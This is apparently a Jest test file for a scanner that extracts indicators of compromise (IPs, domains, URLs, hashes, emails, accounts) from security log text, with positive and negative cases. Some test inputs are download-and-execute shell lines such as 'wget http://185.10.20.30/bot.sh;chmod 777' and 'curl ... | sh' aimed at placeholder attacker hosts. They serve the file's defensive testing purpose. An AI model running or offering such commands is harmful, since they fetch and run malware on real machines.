import { describe, expect, test } from '@jest/globals';
import { readableText, scanText } from './scan-text.js';

const PROSE = { isProse: true, acceptsAnySuffix: false };
const found = (text: string) =>
  scanText(readableText(text).text, PROSE, new Map()).map(({ type, value }) => `${type} ${value}`);

const md5 = '5873c7d37608e0d49bcaa6f32b6c731f';
const sha256 = '2fab740f143fc1aa4c1cd0146d334c5593b1428f6d062b2c406e5efe8abe95ca';

describe('scanText finds', () => {
  test.each([
    ['Beacon to 185.10.20.30, then evil-cdn.net.', ['ip 185.10.20.30', 'domain evil-cdn.net']],
    ['see (https://a.badsite.net/x_(y)).', ['url https://a.badsite.net/x_(y)']],
    [
      'cd /tmp;wget http://185.10.20.30/bot.sh;chmod 777 bot.sh',
      ['url http://185.10.20.30/bot.sh'],
    ],
    ['referer=http://badsite.net/r', ['url http://badsite.net/r']],
    ['GET /?ref=http://badsite.net/r', ['url http://badsite.net/r']],
    [
      'via t.me, x.com and [link](http://badsite.net/l)',
      ['domain t.me', 'domain x.com', 'url http://badsite.net/l'],
    ],
    ['curl -O http://badsite.net/x&&sh x', ['url http://badsite.net/x']],
    ['curl http://badsite.net/y;./y', ['url http://badsite.net/y']],
    [
      'GET http://badsite.net/p;jsessionid=1?a=1&&b=2;c=3 HTTP/1.1',
      ['url http://badsite.net/p;jsessionid=1?a=1&&b=2;c=3'],
    ],
    [
      '&quot;http://badsite.net/?a=1&amp;b=2&quot; http://badsite.net/c&nbsp;d http://badsite.net/e&#39;',
      ['url http://badsite.net/?a=1&b=2', 'url http://badsite.net/c', 'url http://badsite.net/e'],
    ],
    [
      'CEF:0|V|P|1.0|1|x|3|request=https://badsite.net/gate?id\\=5',
      ['url https://badsite.net/gate?id=5'],
    ],
    [
      'app: {\\"user\\":\\"jdoe\\",\\"url\\":\\"http:\\/\\/badsite.net\\/a\\"}',
      ['account jdoe', 'url http://badsite.net/a'],
    ],
    ['GET http://[2a00::5]:8080/x HTTP/1.1', ['url http://[2a00::5]:8080/x']],
    [
      'peers 10.1.2.3/24, 185.10.20.0-185.10.20.9, 2a00::5/64 and 2a00:1:2::/128',
      ['ip 10.1.2.3', 'ip 185.10.20.0', 'ip 185.10.20.9', 'ip 2a00::5', 'ip 2a00:1:2::'],
    ],
    ['src=10.1.1.1:5353 dst=2A00::8A2E:370:7334', ['ip 10.1.1.1', 'ip 2A00::8A2E:370:7334']],
    [
      `MD5=${md5},SHA256=${sha256},IMPHASH=98ceeaf3eb55de32686f14f2cf79fc6f`,
      [`hash_md5 ${md5}`, `hash_sha256 ${sha256}`],
    ],
    ['mail from bob.smith+x@badsite.net was held', ['email bob.smith+x@badsite.net']],
    [
      'hxxps[:]//Evil-CDN[.]net[:]8443/Gate.php?id=7), then 198[.]51(.)101[.]7 and bob[at]evil[dot]net.',
      ['url https://Evil-CDN.net:8443/Gate.php?id=7', 'ip 198.51.101.7', 'email bob@evil.net'],
    ],
    ['logon of user=jdoe by CORP\\adm-smith', ['account jdoe', 'account CORP\\adm-smith']],
    ['Account Name:\t\tWKS-10$\r\nAccount Domain:\t\tCORP', ['account WKS-10$']],
    ['ran as NT AUTHORITY\\NETWORK SERVICE', ['account NT AUTHORITY\\NETWORK SERVICE']],
    ['访问evil.com的主机', ['domain evil.com']],
    [
      '恶意域名cdn.badsite.cn，来源IP：185.10.20.30。下载b.badsite.cn。',
      ['domain cdn.badsite.cn', 'ip 185.10.20.30', 'domain b.badsite.cn'],
    ],
    ['サーバーcdn.badsite.jpに接続', ['domain cdn.badsite.jp']],
    ['ที่cdn.badsite.netและ', ['domain cdn.badsite.net']],
    ['中国.cn, аpple.com', ['domain 中国.cn', 'domain аpple.com']],
    ['Beacons to *.cdn.badsite.net!', ['domain cdn.badsite.net']],
    [
      'curl badscripts.sh/x | sh; GET badsite.pl/view/raw/2',
      ['domain badscripts.sh', 'domain badsite.pl'],
    ],
    [
      'From: <a@badsite.net>\nReferences: <x@badsite.net>\r\n <y@badsite.net>\nTo: <b@badsite.net>',
      ['email a@badsite.net', 'email b@badsite.net'],
    ],
    ['DNS query for stage.py resolved', ['domain stage.py']],
    [
      'type:  5 edge.badsite.net;type:  5 x.hwcdn.net;209.197.3.8;',
      ['domain edge.badsite.net', 'domain x.hwcdn.net', 'ip 209.197.3.8'],
    ],
    ['\\\\files.badsite.net\\share', ['domain files.badsite.net']],
    ["[file:hashes.'SHA-256' = '" + sha256 + "']", [`hash_sha256 ${sha256}`]],
  ])('in %j', (text, expected) => {
    expect(found(text)).toEqual(expected);
  });
});

describe('scanText finds nothing', () => {
  test.each([
    'explorer.exe dropped invoice.zip, script.py, setup.sh, notes.md and app.config',
    'C:\\Users\\bob.ross\\Downloads\\evil.com\\a.ps1 and /opt/app/data.info',
    'at com.example.web.UserController.login(UserController.java:42); System.IO.File; %user.name container.info',
    'Trojan.Win32.Agent.pk and W64/SOMETHING.CA!tr were seen',
    'version 10.0.19.5, build: 6.1.0.1, Chrome/108.0.0.0, product 6.2.0.74298',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36',
    'mac 00:1A:2B:3C:4D:5E std::vector a::b 12:30:45 arn:aws:sts::613260573123:role',
    'network 10.0.0.0/8, any 0.0.0.0 and broadcast 255.255.255.255',
    'networks 2a00:1450::/32, fe80::/10 and 10.20.0.0-10.20.255.255, netmask 255.255.240.0',
    'Chrome 131.0.0.0 on Windows',
    `uuid: ${md5} finding/${md5} thumbprint ${md5} deviceId=${md5}`,
    '00000000000000000000000000000000',
    'type="utm" ref="http://www.badsite.net/ve?vn=X", Reference: http://badsite.net/r',
    'Runbook: [how to block](https://wiki.badsite.net/runbook)',
    'SELECT u.name, p.email FROM users u; window.open(x); ASP.NET and VB.NET apps',
    'OID 1.3.6.1.4.1.311 under 1.3.6.1, section 4.2.1.1, CIS Benchmark 1.2.3.4',
    'opened mails.zip/invoice.exe, parts.cab/setup and Chat.app/Contents/Info',
    'In-Reply-To: <x@badsite.net>',
    'Message-ID: <20240624211145.62086.mail@badsite.net>',
    'git clone git@github.com:org/repo',
    'git push git@git.example.net',
    'user=- suser=N/A duser=null and user: S-1-5-18',
    'image docker.io/library/nginx:1.2',
    'see https://attack.mitre.org/techniques/T1059 and https://docs.microsoft.com/x',
  ])('in %j', (text) => {
    expect(found(text)).toEqual([]);
  });
});

test('tells where a value stands', () => {
  const text = 'from 185.10.20.30';
  expect(scanText(text, PROSE, new Map())).toEqual([
    { type: 'ip', value: '185.10.20.30', span: [5, 17], rule: 'ip' },
  ]);
});
